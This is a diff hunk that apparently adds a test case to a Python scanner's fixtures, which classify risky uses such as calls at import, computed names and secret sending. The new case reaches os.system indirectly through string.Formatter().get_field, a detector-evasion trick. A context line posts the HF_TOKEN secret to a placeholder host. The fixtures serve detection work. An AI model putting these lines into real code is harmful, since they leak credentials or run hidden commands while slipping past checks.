@@ -39,6 +39,7 @@ def list_uses(source: str) -> set[tuple[str, str]]:
         ("import sys\nfor n, m in sys.modules.items(): getattr(m, n)()", "call-at-import", COMPUTED_FUNCTION),
         ("from .a import run\nimport os\nrun(os)", "computed-name", "os.*"),
         ("import torch, operator\noperator.attrgetter(x)(torch)", "computed-name", "(package).*"),
+        ("import os, string\nstring.Formatter().get_field('0.system', (os,), {})[0]('x')", "call-at-import", "os.system"),
         ("import requests.api\nrequests.api.get(u)", "call-at-import", "requests.get"),
         ("import threading, requests\nthreading.Thread(target=requests.get)", "call-at-import", "requests.get"),
         ("import os, requests\nrequests.post('https://a.invalid', data=os.environ['HF_TOKEN'])", "sends-secret", "requests.post"),
